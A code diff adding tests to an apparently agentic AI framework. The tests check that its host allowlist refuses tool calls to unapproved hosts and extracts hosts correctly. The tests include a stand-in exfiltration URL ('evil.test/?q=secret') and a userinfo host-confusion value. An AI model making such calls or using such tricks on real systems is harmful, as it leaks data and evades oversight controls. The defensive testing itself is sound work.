@@ -9,7 +9,7 @@ from geist.agent.calls import Call
 from geist.agent.guard import Guard, file_of
 from geist.agent.hands import Refused
 from geist.agent.leash import Approval, Autonomy, Capability, Terms
-from geist.agent.servers import Servers, kinds_of
+from geist.agent.servers import Servers, hosts, kinds_of
 from geist.core.errors import GeistError
 from geist.core.log import Log
 from geist.models.config import ServerConfig, load
@@ -72,6 +72,35 @@ def test_its_tools_taint_and_are_asked_for(
         assert send.handler(hands, Call("notes.send", {"text": "x"})) == "sent 1"
         assert says.seen[0].fresh and "MCP server notes" in says.seen[0].rule
         assert "fail" in fail.handler(hands, Call("notes.fail", {}))
+
+
+def test_a_page_that_is_only_read_tells_its_host(
+    config: dict[str, ServerConfig], project: Path, data: Path, sandbox: Bubblewrap
+) -> None:
+    with Servers(config) as servers:
+        look = servers.actions["notes.look"]
+        hands = made(project, data, sandbox, Terms(Autonomy.LOOP, hosts=frozenset({"pypi.org"})))
+        assert look.handler(hands, Call("notes.look", {"topic": "https://pypi.org/simple"}))
+        with pytest.raises(Refused):
+            look.handler(hands, Call("notes.look", {"topic": "https://evil.test/?q=secret"}))
+
+
+@pytest.mark.parametrize(
+    ("value", "found"),
+    [
+        ("https://a.test/x?y=z", {"a.test"}),
+        ("HTTP://A.test:80", {"a.test"}),
+        ("https://a.test@evil.test/", {"evil.test"}),
+        ("www.a.test", {"www.a.test"}),
+        ("a.test/page", {"a.test"}),
+        ({"to": ["x", {"url": "ftp://a.test"}]}, {"a.test"}),
+        ("a line about https", set()),
+        ("src/a.py", set()),
+        (3, set()),
+    ],
+)
+def test_hosts_of_arguments(value: object, found: set[str]) -> None:
+    assert hosts(value) == found
 
 
 def test_a_server_that_does_not_start_is_told(tmp_path: Path) -> None:
